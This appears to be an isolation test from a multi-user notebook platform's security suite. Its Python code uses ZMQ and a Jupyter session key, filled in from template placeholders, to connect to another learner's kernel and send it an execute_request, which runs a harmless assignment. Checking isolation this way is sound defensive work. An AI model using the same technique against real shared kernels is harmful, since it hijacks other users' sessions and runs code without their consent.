# /// attack
# title = "Connects to another learner's kernel, whose address and key it knows, and has it run a program"
# [tier.process]
# broke = true
# run = false
# reason = "there is no sandbox in this tier: kernels of one user can talk to each other"
# ///

# %%
import zmq

context = zmq.Context()
for port in (1, 2):
    print("TRIED port", port)
    try:
        one = context.socket(zmq.DEALER if port == 1 else zmq.SUB)
        monitor = one.get_monitor_socket(zmq.EVENT_CONNECTED)
        one.connect(f"ipc://@KERNEL_SOCKET@-{port}")
        if monitor.poll(300):
            print("BROKE connected")
    except zmq.ZMQError as error:
        print(error)
    except OSError as error:
        print(error)

# %%
from jupyter_client.session import Session

print("TRIED to have it run a program")
session = Session(key=bytes.fromhex("@KERNEL_KEY@"))
try:
    one = context.socket(zmq.DEALER)
    one.linger = 0
    one.connect("ipc://@KERNEL_SOCKET@-1")
    session.send(one, "execute_request", {"code": "answer = 'not yours'", "silent": True})
    if one.poll(500):
        print("BROKE it answered")
except zmq.ZMQError as error:
    print(error)
